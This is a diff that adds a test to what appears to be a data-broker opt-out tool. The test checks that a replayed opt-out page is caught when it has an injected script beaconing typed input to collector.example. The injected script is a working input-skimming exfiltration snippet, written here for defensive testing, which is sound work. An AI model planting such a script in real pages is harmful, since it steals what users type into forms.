@@ -190,3 +190,24 @@ def test_akismet_s_hidden_field_is_a_honeypot():
     for form in report.forms:
         assert "Δ" in [x.caption for x in form.fields if x.honeypot]
         assert "Δ" not in [x.caption for x in form.visible_fields]
+
+
+@requires_browser
+@pytest.mark.parametrize("value, leaks", [("e.target.value", True), ("'typing'", False)])
+async def test_a_replayed_page_that_sends_the_person_s_values_elsewhere_fails_its_test(tmp_path, capsys, value, leaks):
+    """"Send only to declared hosts" is checked, not assumed: the USPeopleSearch capture with a
+    script that beacons what is typed to another host fails the recipe's test (the request itself
+    is blocked); the same beacon carrying nothing of the person's is blocked quietly."""
+    d = tmp_path / "brokers"
+    shutil.copytree(BROKERS / "fixtures" / "uspeoplesearch", d / "fixtures" / "uspeoplesearch")
+    shutil.copy(BROKERS / "uspeoplesearch.yaml", d)
+    page = d / "fixtures" / "uspeoplesearch" / "purge-my-data.html"
+    beacon = ("<script>document.addEventListener('input', e => navigator.sendBeacon("
+              f"'https://collector.example/c?v=' + encodeURIComponent({value})))</script></body>")
+    page.write_text(page.read_text(encoding="utf-8").replace("</body>", beacon, 1), encoding="utf-8")
+    code = await check_recipes(load_catalogue([d]), ["uspeoplesearch"], settings(tmp_path), as_json=True)
+    rows = rows_of(capsys)
+    if leaks:
+        assert code == 1 and "send the person's data to collector.example" in rows[0]["detail"], rows
+    else:
+        assert code == 0, rows
